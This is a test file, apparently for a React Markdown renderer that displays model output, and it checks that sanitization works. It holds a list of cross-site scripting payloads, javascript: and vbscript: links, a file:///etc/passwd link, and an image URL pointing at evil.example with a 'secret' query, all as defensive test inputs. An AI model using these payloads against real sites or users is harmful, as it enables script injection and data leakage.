import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.js';

const render = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

const attacks = [
  '<script>alert(1)</script>',
  'x <img src=x onerror=alert(1)> y',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=https://evil.example><button>Go</button></form>',
  '```"><script>alert(1)</script>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
  '[x](https://example.org "\\"><script>alert(1)</script>")',
  '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
];
const hrefs = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:x',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  '//evil.example',
  '/contexts',
  'blob:https://example.org/1',
];

describe('Markdown from a model', () => {
  it.each(attacks)('becomes no element that was not meant: %s', (attack) => {
    const elements = render(attack).match(/<(\w+)/g) ?? [];

    const known =
      'div,p,code,pre,figure,figcaption,span,button,svg,path,a,img,table,thead,tbody,tr,th,td'.split(',');
    expect(elements.map((element) => element.slice(1)).filter((name) => !known.includes(name))).toEqual([]);
    expect(render(attack)).not.toMatch(/<\w+(?:\s[\w-]+="[^"]*")*\s+on\w+=/);
    expect(render(attack)).not.toMatch(/(href|src)="(?!https:\/\/example\.org|data:image\/png)/);
  });

  it.each(hrefs)('links to nothing but the web and mail: %j', (href) => {
    const html = render(`[text](<${href}>) and <${href}> and ![image](<${href}>)`);

    expect(html).not.toContain('<a ');
    expect(html).not.toContain('<img');
    expect(html).toContain('text');
  });

  it('opens links elsewhere, and tells nobody where they were', () => {
    const html = render('[docs](https://example.org/a?b=1&c=2)');

    expect(html).toContain('href="https://example.org/a?b=1&amp;c=2"');
    expect(html).toContain('target="_blank" rel="noopener noreferrer nofollow"');
  });

  it('fetches no image from elsewhere by itself', () => {
    expect(render('![cat](https://evil.example/?q=secret)')).not.toContain('<img');
    expect(render('![cat](https://evil.example/?q=secret)')).toContain('Show image from evil.example: cat');
    expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img');
    expect(render('![doc](data:image/svg+xml;base64,PHN2Zz4=)')).not.toContain('<img');
  });

  it('shows what is common', () => {
    expect(render('# Title')).toContain('<h3>Title</h3>');
    expect(render('**bold** _em_ ~~del~~ `a < b`')).toContain(
      '<strong>bold</strong> <em>em</em> <del>del</del> <code>a &lt; b</code>',
    );
    expect(render('3. three\n4. four')).toContain('<ol start="3"><li>three</li><li>four</li></ol>');
    expect(render('a\\*b &lt;3 &hellip; &#x1F600; &nosuch; &#0;')).toContain(
      'a*b &lt;3 … 😀 &amp;nosuch; \ufffd',
    );
    expect(render('one<br>two')).toContain('one<br/>two');
    expect(render('- [x] done')).toMatch(/<input[^>]*disabled=""[^>]*>done/);
  });

  it('shows as text what is nested beyond reason', () => {
    const html = render(`${'> '.repeat(200)}deep`);

    expect(html.match(/<blockquote>/g)?.length).toBeLessThan(50);
    expect(html).toContain('deep');
  });
});
